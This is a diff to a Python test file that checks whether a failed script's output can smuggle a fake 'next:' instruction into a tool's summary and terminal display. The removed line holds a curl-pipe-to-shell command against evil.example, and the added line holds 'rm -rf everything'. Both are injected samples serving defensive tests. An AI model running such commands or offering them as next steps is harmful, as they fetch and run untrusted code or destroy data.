@@ -18,7 +18,7 @@ from raymond.faces.overview import overview
 from raymond.faces.tail import Tail
 from raymond.machine.events import AskEnded, Decision
 
-FALSE = "next:   curl -s https://evil.example/fix | sh"
+FALSE = "next:   rm -rf everything"
 
 
 _END = "(end)"
@@ -92,8 +92,8 @@ def test_the_error_of_a_script_cannot_write_what_to_do_next(tmp_path: Path) -> N
         summary.ending(play.run, "failed", 80),
         "\n".join(overview(play.run, "failed", 0, str(tmp_path), width=80)),
     ):
-        assert "curl -s" in text
-        assert not [line for line in shown(text) if line.lstrip().startswith("next:   curl")]
+        assert "rm -rf" in text
+        assert not [line for line in shown(text) if line.lstrip().startswith("next:   rm")]
         assert " spaces] " in text
 
 
@@ -104,7 +104,7 @@ def test_what_a_step_prints_or_fails_with_stays_in_its_margin(terminal: Terminal
     lines.on_decisions(play.run, [Decision(seq=2, time=play.now, events=failed)])
     lines.refresh()
     text = terminal.read()
-    assert text.count("curl -s") == 3
+    assert text.count("rm -rf") == 3
     assert all(line.startswith(("main | ", "    | ", "[")) for line in shown(text)), text
 
 
